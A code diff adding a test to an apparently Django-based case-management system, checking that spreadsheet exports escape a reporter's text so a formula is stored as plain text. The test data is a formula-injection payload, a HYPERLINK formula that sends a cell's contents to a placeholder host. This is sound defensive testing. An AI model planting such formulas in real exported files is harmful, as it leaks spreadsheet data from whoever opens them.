@@ -189,6 +189,15 @@ def test_export_is_the_filtered_list_without_reports_about_the_level_above(org_t
     assert AuditEvent.objects.filter(action="export", actor=staff.officer).exists()
 
 
+def test_export_never_hands_a_reporters_text_to_the_spreadsheet_as_a_formula(org_tree, staff, client_for):
+    register_case(org_tree.commission, summary='=HYPERLINK("http://x.example/?"&A1,"点击")', source="letter")
+    response = client_for(staff.officer).get(reverse("cases:export"), {"source": "letter"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    summary_cell = sheet.cell(row=2, column=5)
+    assert summary_cell.data_type == "s"
+    assert summary_cell.value == '\'=HYPERLINK("http://x.example/?"&A1,"点击")'
+
+
 def test_print_form(org_tree, staff, client_for):
     case = register_case(org_tree.commission)
     body = client_for(staff.officer).get(reverse("cases:print", args=[case.pk])).content.decode()
